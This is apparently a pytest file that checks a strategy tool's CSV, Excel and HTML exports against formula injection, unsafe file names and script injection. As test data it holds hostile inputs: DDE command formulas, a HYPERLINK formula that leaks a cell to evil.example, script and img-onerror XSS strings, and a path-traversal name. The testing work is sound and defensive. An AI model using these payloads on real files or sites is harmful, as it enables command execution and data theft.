"""Exports: CSV with BOM, the Excel workbook opened back with openpyxl, the offline HTML brief,
formula-injection neutralisation and safe file names."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from html.parser import HTMLParser

import openpyxl
import pandas as pd
import pytest

from strategy import export
from strategy.data.dataset import Dataset
from strategy.i18n import t
from strategy.optimize import Plan
from strategy.scenario import Evaluation, Scenario, evaluate
from strategy.scoring import Universe

INJECTIONS = ["=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def hostile(dataset: Dataset) -> Dataset:
    """The bundled data with formula and script payloads in names a user could have edited."""
    countries = dataset.countries.copy()
    countries.loc["VNM", ["name_en", "name_ja", "name_ja_short"]] = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Vietnam")',
        "<script>alert('ja')</script>",
        "<script>alert('ja')</script>",
    ]
    fields = dataset.fields.copy()
    fields.loc["digital_tv", ["name_en", "name_ja"]] = ["+cmd|' /C calc'!A0", "@SUM(1+1)"]
    fields.loc["digital_tv", "japan_strength_rationale_en"] = "-2+3 looks like a formula"
    return replace(dataset, countries=countries, fields=fields)


# --- neutralisation and names -------------------------------------------------------------------


@pytest.mark.parametrize("value", INJECTIONS)
def test_formula_prefixes_are_neutralised(value: str):
    assert export.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Vietnam", "ベトナム", "1-2", "a=b", "", " =x"])
def test_ordinary_text_is_left_alone(value: str):
    assert export.neutralise(value) == value


def test_numbers_are_not_touched():
    assert export.neutralise(-1.5) == -1.5 and export.neutralise(-3) == -3 and export.neutralise(None) is None


def test_csv_is_utf8_with_bom_and_neutralised():
    frame = pd.DataFrame({"国": ["ベトナム", *INJECTIONS], "=head": [-1.0, 1, 2, 3, 4, 5, 6]})
    data = export.to_csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["国", "'=head"]
    assert rows[1] == ["ベトナム", "-1.0"]  # a negative number stays a number
    assert [r[0] for r in rows[2:]] == ["'" + v for v in INJECTIONS]


def test_excel_cells_and_sheet_names_are_neutralised():
    frame = pd.DataFrame({"=evil()": INJECTIONS, "n": range(len(INJECTIONS))})
    data = export.workbook_from_frames({"=SUM(A1)": frame, "a[b]:c*?/\\d": frame, "=SUM(A1) ": frame})
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for name in wb.sheetnames:
        assert not name.startswith(("=", "+", "-", "@")) and not re.search(r"[\[\]:*?/\\]", name)
        assert len(name) <= 31
    assert len(set(wb.sheetnames)) == 3
    ws = wb[wb.sheetnames[0]]
    assert ws.cell(1, 1).value == "'=evil()"
    for i, value in enumerate(INJECTIONS, start=2):
        cell = ws.cell(i, 1)
        # (the standard-library XML reader turns a carriage return into a line feed, lxml keeps it;
        # what matters is the leading quote)
        assert cell.value in ("'" + value, "'" + value.replace("\r", "\n")) and cell.data_type == "s"
        assert ws.cell(i, 2).value == i - 2 and ws.cell(i, 2).data_type == "n"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "etc_passwd"),
        ("CON.csv", "_CON.csv"),
        ('a:b*c?"d<e>|f.xlsx', "a_b_c_d_e_f.xlsx"),
        ("", "export"),
        ("...", "export"),
        ("-rf now.csv", "rf now.csv"),
        ("ベトナム 2027.html", "ベトナム 2027.html"),
        ("tab\tand\nnewline.csv", "tab_and_newline.csv"),
        ("C:\\Users\\x.csv", "C_Users_x.csv"),
    ],
)
def test_safe_filename(name: str, expected: str):
    assert export.safe_filename(name) == expected


def test_safe_filename_keeps_the_extension_when_cut():
    name = export.safe_filename("長い名前" * 100 + ".xlsx")
    assert name.endswith(".xlsx") and len(name) <= 120
    assert export.export_filename("brief", "../x", "html", "VNM") == "x_VNM_brief.html"


# --- tables -------------------------------------------------------------------------------------


def test_decomposition_adds_up_to_the_score(dataset: Dataset, focus: Evaluation):
    table = export.score_decomposition(dataset, focus, "en")
    score = table.groupby(t("ex.col.iso3", "en"))[t("ex.col.contribution", "en")].sum()
    pd.testing.assert_series_equal(
        score.sort_index(), focus.market.score.sort_index(), check_names=False, check_index_type=False, rtol=1e-12
    )


def test_sources_give_the_years_actually_used(dataset: Dataset, focus: Evaluation):
    table = export.sources_table(dataset, focus, "en")
    ref = focus.criteria.reference_year
    indicators = table[table[t("ex.col.kind", "en")] == t("ex.kind.indicator", "en")]
    first, last = indicators[t("ex.col.year_min", "en")].dropna(), indicators[t("ex.col.year_max", "en")].dropna()
    # each indicator's own freshness window (NaN = no limit, so any first year passes)
    window = indicators[t("ex.col.item_id", "en")].map(focus.criteria.windows).loc[first.index]
    assert (~(first < ref - window)).all() and (last <= ref).all() and (first <= last.loc[first.index]).all()
    assert indicators[t("ex.col.licence", "en")].str.len().gt(0).all()
    gdp = indicators.set_index(t("ex.col.item_id", "en")).loc["gdp_usd"]
    used = focus.criteria.year["gdp_usd"].where(focus.criteria.available["gdp_usd"]).dropna()
    assert (gdp[t("ex.col.year_min", "en")], gdp[t("ex.col.year_max", "en")]) == (used.min(), used.max())
    evidence = table[table[t("ex.col.kind", "en")] == t("ex.kind.rival_evidence", "en")]
    assert len(evidence) > 0
    # the focus countries' latest CPI values are from the 2019-2024 file: the row names that file
    cpi = indicators[indicators[t("ex.col.item_id", "en")] == "cpi_score"]
    assert list(cpi[t("ex.col.source_id", "en")]) == ["cpi_2019"]
    assert cpi[t("ex.col.title", "en")].iloc[0] == dataset.sources.at["cpi_2019", "title"]


def test_settings_hold_every_scenario_parameter(dataset: Dataset, focus: Evaluation, plan: Plan):
    table = export.settings_table(dataset, focus, "ja", plan)
    parameters = set(table[t("ex.col.parameter", "ja")])
    for path in ("settings.method", "universe.focus_only", "constraints.budget", "market_weights.pillars.size"):
        assert path in parameters
    assert {"plan.status", "plan.budget_used", "dataset.version"} <= parameters


# --- Excel workbook -----------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_workbook_opens_with_every_sheet(dataset: Dataset, focus: Evaluation, plan: Plan, lang: str):
    sheets = export.workbook_sheets(dataset, focus, lang, plan)
    wb = openpyxl.load_workbook(io.BytesIO(export.workbook_from_frames(sheets)), read_only=True)
    expected = [
        t(f"ex.sheet.{k}", lang)
        for k in ("markets", "pairs", "decomposition", "settings", "plan", "sources", "fields", "rivals")
    ]
    assert wb.sheetnames == expected
    for name, frame in sheets.items():
        rows = list(wb[name].iter_rows(values_only=True))
        assert list(rows[0]) == list(frame.columns), name  # headers in the chosen language
        assert len(rows) - 1 == len(frame), name
    markets = list(wb[expected[0]].iter_rows(values_only=True))
    assert len(markets) - 1 == len(focus.market.score)
    assert markets[0][:3] == (t("ex.col.rank", lang), "ISO3", t("ex.col.country", lang))
    assert markets[1][0] == 1 and isinstance(markets[1][5], float)
    assert len(list(wb[expected[1]].iter_rows())) - 1 == len(focus.opportunity)
    assert len(list(wb[expected[4]].iter_rows())) - 1 == len(plan.selection)
    assert len(list(wb[expected[6]].iter_rows())) - 1 == len(dataset.fields)
    assert len(list(wb[expected[7]].iter_rows())) - 1 == len(dataset.rival_strength)
    wb.close()


def test_workbook_without_plan_has_no_plan_sheet(dataset: Dataset, focus: Evaluation):
    wb = openpyxl.load_workbook(io.BytesIO(export.workbook_bytes(dataset, focus, "en")), read_only=True)
    assert t("ex.sheet.plan", "en") not in wb.sheetnames and len(wb.sheetnames) == 7
    wb.close()


def test_hostile_names_are_neutralised_in_csv_and_excel(hostile: Dataset):
    evaluation = evaluate(hostile, replace(Scenario.default(hostile), universe=Universe(focus_only=True)))
    pairs = export.pair_shortlist(hostile, evaluation, "en")
    rows = list(csv.reader(io.StringIO(export.to_csv_bytes(pairs).decode("utf-8-sig"), newline="")))
    cells = [c for row in rows for c in row]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Vietnam")' in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(c.startswith("-") and not _number(c) for c in cells)
    data = export.workbook_bytes(hostile, evaluation, "ja")
    wb = openpyxl.load_workbook(io.BytesIO(data))
    strings = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    strings += 1
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (ws.title, cell.value)
    assert strings > 1000
    fields = wb[t("ex.sheet.fields", "ja")]
    assert "'@SUM(1+1)" in [c.value for c in fields["B"]]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- HTML brief ---------------------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(page: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(page)
    return parser.tags


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_brief_is_self_contained(dataset: Dataset, focus: Evaluation, plan: Plan, lang: str):
    page = export.country_brief_html(dataset, focus, "VNM", lang, plan)
    tags = _tags(page)
    names = {tag for tag, _ in tags}
    assert "script" not in names and "link" not in names and "iframe" not in names and "img" not in names
    for tag, attrs in tags:  # nothing is loaded from anywhere
        for attribute in ("src", "srcset", "data"):
            assert attribute not in attrs, (tag, attrs)
        if tag != "a":
            assert not any("http" in (v or "") and k == "href" for k, v in attrs.items())
    assert "@import" not in page and "url(" not in page
    assert page.count("<svg") >= 2  # the charts are inline
    name = export.country_names(dataset, lang)["VNM"]
    assert t("ex.brief.title", lang, country=name) in page
    assert t("ex.brief.why", lang) in page and t("ex.brief.rivals", lang) in page
    assert "World Development Indicators" in page  # the sources
    assert t("ex.brief.plan", lang) in page


def test_brief_references_name_the_file_each_value_came_from(dataset: Dataset, focus: Evaluation, plan: Plan):
    """VNM's latest CPI comes from the 2019-2024 file (source cpi_2019, not the catalogue's cpi):
    the brief's references name that file's title too."""
    assert focus.criteria.source.at["VNM", "cpi_score"] == "cpi_2019"
    page = export.country_brief_html(dataset, focus, "VNM", "en", plan)
    assert dataset.sources.at["cpi_2019", "title"] in page


def test_brief_escapes_hostile_text(hostile: Dataset):
    scenario = replace(Scenario.default(hostile, '"><img src=x onerror=alert(1)>'), universe=Universe(focus_only=True))
    evaluation = evaluate(hostile, scenario)
    pages = {lang: export.country_brief_html(hostile, evaluation, "VNM", lang) for lang in ("ja", "en")}
    for page in pages.values():
        assert "<script>" not in page and "<img" not in page
        assert {tag for tag, _ in _tags(page)} <= {
            "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "p", "section",
            "svg", "rect", "text", "line", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "b", "a",
        }  # fmt: skip
        assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in page  # the scenario name
    assert "&lt;script&gt;alert(&#x27;ja&#x27;)&lt;/script&gt;" in pages["ja"]
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Vietnam&quot;)" in pages["en"]


def test_brief_refuses_countries_it_cannot_describe(dataset: Dataset, focus: Evaluation):
    with pytest.raises(export.ExportError) as unknown:
        export.country_brief_html(dataset, focus, "Narnia", "ja")
    assert "Narnia" in unknown.value.message("ja")
    with pytest.raises(export.ExportError) as outside:
        export.country_brief_html(dataset, focus, "FRA", "en")
    assert outside.value.key == "ex.err.not_in_universe" and "France" in outside.value.message("en")
    full = evaluate(dataset, Scenario.default(dataset))
    excluded = str(full.market.excluded.index[0])
    with pytest.raises(export.ExportError) as low:
        export.country_brief_html(dataset, full, excluded, "ja")
    assert low.value.key == "ex.err.excluded"
    assert export.resolve_country(dataset, "vn") == "VNM" and export.resolve_country(dataset, "ベトナム") == "VNM"


def test_brief_says_which_model_and_marks_a_rivals_home_market(dataset: Dataset):
    full = evaluate(dataset, Scenario.default(dataset))
    content = export.country_brief_content(dataset, full, "USA", "en")
    rivals = content.fields[t("ex.brief.col.main_rival", "en")]
    assert rivals.str.endswith(" ⌂").any()  # the US in its own market: home market, not assumed
    page = export.country_brief_html(dataset, full, "USA", "en")
    assert "export potential" in page and "⌂ = the rival" in page
    old = replace(full.scenario, opportunity_weights=replace(full.scenario.opportunity_weights, rule="sum"))
    assert "earlier model" in export.country_brief_html(dataset, evaluate(dataset, old), "USA", "en")
